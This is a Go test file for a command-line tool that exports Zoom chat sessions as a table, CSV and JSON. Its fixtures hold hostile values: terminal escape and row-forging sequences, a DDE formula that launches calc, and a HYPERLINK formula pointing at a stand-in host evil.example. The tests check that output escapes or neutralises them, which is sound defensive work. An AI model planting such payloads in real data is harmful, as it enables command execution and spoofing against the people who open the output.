package main

import (
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/zoomkit/chatsessions/api"
	"github.com/zoomkit/chatsessions/zoomtest"
)

// hostileSessions are sessions whose text tries to forge table rows,
// drive the terminal or run as spreadsheet formulas.
func hostileSessions() []api.ChatSession {
	at := func(sec int) *time.Time {
		t := time.Date(2026, 11, 10, 10, 0, sec, 0, time.UTC)
		return &t
	}
	str := func(s string) *string { return &s }
	group, oneToOne := api.ChatSessionTypeGroup, api.ChatSessionTypeOneToOne
	yes := true
	return []api.ChatSession{
		{ID: str("c38230acb7f009282c1b0d367a08102d65d12629bbcca58dfe2168bd335f5849"), Type: &group, LastMessageSentTime: at(1),
			Name: str("Ops\x1b]0;pwned\x07\r\n2026-11-10T10:00:00Z  Group  active   no        forged\u2028x\u202eevil\u009b31m\x7f")},
		{ID: str("c38230acb7f009282c1b0d367a08102d65d12629bbcca58dfe2168bd335f5850"), Type: &oneToOne, LastMessageSentTime: at(2), HasExternalMember: &yes,
			MemberEmails: &[]string{`=HYPERLINK("http://evil.example/?x")@example.com`, "b@example.com"}},
		{ID: str("c38230acb7f0ffffffffffffffffffffffffffffffffffffffffffffffffffff"), Type: &group, LastMessageSentTime: at(3), Name: str("+cmd|' /C calc'!A0")},
		{ID: str("d1"), Type: &group, LastMessageSentTime: at(4), Name: str("@SUM(1+1)")},
		{ID: str("d2"), Type: &group, LastMessageSentTime: at(5), Name: str("-2+3")},
		{ID: str("d3"), Type: &group, LastMessageSentTime: at(6), Name: str("\tTabbed")},
		{ID: str("d4"), Type: &group, LastMessageSentTime: at(7), Name: str("会議室の名前がとても長いチャンネルです。本当にとても長い名前のチャンネル")},
	}
}

// unsafeIn returns the first rune of s that must not reach a terminal raw
// (other than the newline ending each line), or -1.
func unsafeIn(s string) rune {
	for i, r := range s {
		if r == utf8.RuneError {
			return r
		}
		if unsafeRune(r) && r != '\n' {
			_ = i
			return r
		}
	}
	return -1
}

// TestHostileTable: every session is one row whatever its text; control
// characters show escaped; the fitted table fits 80 columns and tells the
// three c38230acb7f0… IDs apart.
func TestHostileTable(t *testing.T) {
	sessions := hostileSessions()
	_, env := newFake(t, zoomtest.WithSessions(sessions))
	args := []string{"--from", "2026-11-10", "--to", "2026-11-10"}
	for _, width := range []int{0, 80, 61} {
		r := runOn(t, width, env, args...)
		if r.code != 0 {
			t.Fatalf("width %d: exit %d: %s", width, r.code, r.stderr)
		}
		lines := strings.Split(strings.TrimSuffix(r.stdout, "\n"), "\n")
		if len(lines) != len(sessions)+1 {
			t.Fatalf("width %d: %d lines, want header + %d:\n%s", width, len(lines), len(sessions), r.stdout)
		}
		if c := unsafeIn(r.stdout); c != -1 {
			t.Errorf("width %d: stdout carries %U raw", width, c)
		}
		for i, l := range lines {
			if width > 0 && textWidth(l) > width {
				t.Errorf("width %d: line %d takes %d columns: %q", width, i+1, textWidth(l), l)
			}
		}
		wantFirst := `Ops\x1b]0;pwned\x07\r\n2026-11-10T10:00:00Z  Group  active   no        forged\u2028x\u202eevil\u009b31m\x7f`
		switch width {
		case 0:
			want := "2026-11-10T10:00:01Z  Group  -        no        c38230acb7f009282c1b0d367a08102d65d12629bbcca58dfe2168bd335f5849  " + wantFirst
			if diff := cmp.Diff(want, lines[1]); diff != "" {
				t.Errorf("full row (-want +got):\n%s", diff)
			}
		case 80:
			want := []string{
				"LAST MESSAGE UTC  TYPE   STATUS   EXT  ID          NAME / MEMBERS",
				`2026-11-10 10:00  Group  -        no   c38230ac    Ops\x1b]0;pwned\x07\r\n2026-…`,
				`2026-11-10 10:00  1:1    -        yes  c38230acb7f0092…  =HYPERLINK("http://evi…`,
				`2026-11-10 10:00  Group  -        no   c38230acb7f0f  +cmd|' /C calc'!A0`,
				"2026-11-10 10:00  Group  -        no   d1          @SUM(1+1)",
				"2026-11-10 10:00  Group  -        no   d2          -2+3",
				`2026-11-10 10:00  Group  -        no   d3          \tTabbed`,
				"2026-11-10 10:00  Group  -        no   d4          会議室の名前がとても長いチャ…",
			}
			if diff := cmp.Diff(want, lines); diff != "" {
				t.Errorf("fitted table (-want +got):\n%s", diff)
			}
		}
	}
}

// TestHostileCSV: RFC 4180 CSV that reads back to Zoom's text, except
// cells a spreadsheet would run, which start with a single quote.
func TestHostileCSV(t *testing.T) {
	sessions := hostileSessions()
	_, env := newFake(t, zoomtest.WithSessions(sessions))
	r := runCLI(t, env, "--from", "2026-11-10", "--to", "2026-11-10", "--format", "csv")
	if r.code != 0 {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	rows, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var got [][2]string // id, name or members
	for _, row := range rows[1:] {
		got = append(got, [2]string{row[0], row[2] + row[4]})
	}
	// A reader turns CRLF inside a quoted field into LF; the bytes written
	// are Zoom's.
	if !strings.Contains(r.stdout, `"`+*sessions[0].Name+`"`) {
		t.Errorf("csv does not carry the first name as is, quoted:\n%q", r.stdout)
	}
	want := [][2]string{
		{"c38230acb7f009282c1b0d367a08102d65d12629bbcca58dfe2168bd335f5849", strings.ReplaceAll(*sessions[0].Name, "\r\n", "\n")},
		{"c38230acb7f009282c1b0d367a08102d65d12629bbcca58dfe2168bd335f5850", `'=HYPERLINK("http://evil.example/?x")@example.com;b@example.com`},
		{"c38230acb7f0ffffffffffffffffffffffffffffffffffffffffffffffffffff", "'+cmd|' /C calc'!A0"},
		{"d1", "'@SUM(1+1)"},
		{"d2", "'-2+3"},
		{"d3", "'\tTabbed"},
		{"d4", *sessions[6].Name},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("csv cells (-want +got):\n%s", diff)
	}
}

// TestHostileJSON: json and ndjson keep Zoom's values exactly, with the
// control characters written as escapes.
func TestHostileJSON(t *testing.T) {
	sessions := hostileSessions()
	_, env := newFake(t, zoomtest.WithSessions(sessions))
	var want []string
	for _, s := range sessions {
		if s.Name != nil {
			want = append(want, *s.Name)
		} else {
			want = append(want, strings.Join(*s.MemberEmails, ";"))
		}
	}
	type obj struct {
		Name         string   `json:"name"`
		MemberEmails []string `json:"member_emails"`
	}
	text := func(o obj) string { return o.Name + strings.Join(o.MemberEmails, ";") }
	for _, format := range []string{"json", "ndjson"} {
		r := runCLI(t, env, "--from", "2026-11-10", "--to", "2026-11-10", "--format", format)
		if r.code != 0 {
			t.Fatalf("%s: exit %d: %s", format, r.code, r.stderr)
		}
		if c := unsafeIn(r.stdout); c != -1 {
			t.Errorf("%s: stdout carries %U raw", format, c)
		}
		var got []string
		if format == "json" {
			var arr []obj
			if err := json.Unmarshal([]byte(r.stdout), &arr); err != nil {
				t.Fatal(err)
			}
			for _, o := range arr {
				got = append(got, text(o))
			}
		} else {
			for _, l := range strings.Split(strings.TrimSuffix(r.stdout, "\n"), "\n") {
				var o obj
				if err := json.Unmarshal([]byte(l), &o); err != nil {
					t.Fatalf("%s: %v in %q", format, err, l)
				}
				got = append(got, text(o))
			}
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%s values (-want +got):\n%s", format, diff)
		}
	}
}
